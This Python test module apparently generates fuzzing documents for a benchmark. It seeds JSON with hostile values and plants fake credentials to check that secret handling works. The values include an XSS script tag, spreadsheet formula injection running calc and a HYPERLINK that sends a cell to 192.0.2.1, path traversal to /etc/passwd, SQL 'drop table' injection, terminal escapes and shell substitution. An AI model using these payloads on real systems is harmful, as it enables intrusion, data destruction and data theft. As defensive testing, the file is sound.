"""Hostile documents, from a seed: what a name, a value or a whole answer may hold to do harm."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence
from typing import Any

from bench.kept import PLACES, Change, Row, changed

TEXTS = (
    "<html><script>alert(1)</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("http://192.0.2.1/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "\x9b31m\x00\x08\x7f",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a/b%2f..%2fc?d#e",
    "\u202eevisrever\u202c \u2066isolated\u2069",
    "'; drop table instances; --",
    "$1 {name} ${HOME} %s %n `id`",
    "a\r\nb\tc\u2028d\ufeff",
    "\U0001f9ff" * 20,
    "n" * 10_000,
)
NUMBERS = (2**63 - 1, 2**63, -(2**63), 2**70, 10**300, 1e308, 5e-324, -0.0, 0.1 + 0.2, 123456789.123456789)
WORDS = ("", "0", "null", "true", "NaN", "Infinity", "-1", "1e9", "0x10", "[]", "{}", '""', "5GiB", " ", "\\")


def documents(seed: int, count: int) -> list[Row]:
    """So many full documents with hostile values put anywhere, each with an id of its own."""
    draw = random.Random(seed)
    return [{**changed(_changes(draw)), "id": f"DE-{seed}-{number}"} for number in range(count)]


def _changes(draw: random.Random) -> list[Change]:
    """What is put where into one document."""
    return [
        (draw.choice(PLACES), _name(draw) if draw.random() < 0.4 else None, _anything(draw))
        for _ in range(draw.randint(1, 6))
    ]


def _name(draw: random.Random) -> str:
    """A key that the reference does not have."""
    return draw.choice((*TEXTS, *WORDS, "a.b", 'a"b', "a~1b", "__proto__", "ID", "$ref"))


def _anything(draw: random.Random) -> Any:
    """A value of any kind, often of one that nobody expects there."""
    kinds: Sequence[Callable[[], Any]] = (
        lambda: draw.choice(TEXTS),
        lambda: draw.choice(WORDS),
        lambda: draw.choice(NUMBERS),
        lambda: draw.choice((None, True, False)),
        lambda: [_anything(draw) for _ in range(draw.randint(0, 3))],
        lambda: {_name(draw): _anything(draw) for _ in range(draw.randint(0, 3))},
        lambda: _nested(draw.randint(10, 200)),
    )
    return draw.choices(kinds, weights=(6, 3, 4, 3, 2, 2, 1))[0]()


def _nested(depth: int) -> Any:
    """Lists and objects, one in the other."""
    value: Any = "deep"
    for level in range(depth):
        value = [value] if level % 2 else {"in": value}
    return value


def with_secrets(document: Row, secrets: Sequence[str]) -> bytes:
    """The document with secrets planted in it, a key in it twice, and bytes that are no UTF-8."""
    ssh, password, query, deep, last = secrets
    planted = {
        **document,
        "repository": {
            "id": document["id"],
            "connection_info": {
                "url": f"https://git.example.com/x?access_token={query}",
                "credential": {"ssh_private_key": ssh},
            },
        },
        "unforeseen": {"list": [_nested(8), {"client_secret": {"inner": [deep]}}], "BYTES": "BYTES"},
        "db_password": password,
    }
    text = json.dumps(planted, ensure_ascii=False)[:-1] + f', "token": "a", "token": "{last}"}}'
    return text.encode(errors="surrogatepass").replace(
        b'"BYTES": "BYTES"', b'"bytes": "\xff\xc0\xaf\xed\xa0\x80"'
    )
